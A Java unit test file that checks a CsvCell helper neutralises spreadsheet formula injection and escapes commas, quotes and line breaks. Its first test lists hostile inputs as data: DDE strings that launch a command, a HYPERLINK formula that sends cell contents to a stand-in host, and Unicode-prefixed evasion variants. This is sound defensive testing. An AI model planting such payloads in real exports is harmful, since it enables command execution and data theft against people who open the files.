package dev.rushlight.ledger;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
                "+1+1",
                "-1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tplain",
                "\rplain",
                "\nplain",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠SUM(1)",
                " =1+1",
                "\u00A0=1+1",
                "\u3000=1+1",
                "\uFEFF=1+1",
                "\u200B=1+1",
                "\u0000=1+1",
                "=",
                "-"
            })
    void noCellIsTakenForAFormula(String text) {
        assertThat(CsvCell.of(text)).isEqualTo("\"'" + text.replace("\"", "\"\"") + "\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "plain", "maria@studio.example", "sh020 v012", "a=b", "1 + 1", "2026-11-23", "É", "#1", "🎬"
            })
    void whatIsHarmlessStaysAsItIs(String text) {
        assertThat(CsvCell.of(text)).isEqualTo(text);
    }

    @Test
    void whatWouldBreakTheTableIsQuoted() {
        assertThat(CsvCell.of("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvCell.of("say \"no\"")).isEqualTo("\"say \"\"no\"\"\"");
        assertThat(CsvCell.of("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
        assertThat(CsvCell.of("a;=b")).isEqualTo("\"a;=b\"");
        assertThat(CsvCell.of(" kept ")).isEqualTo("\" kept \"");
    }
}
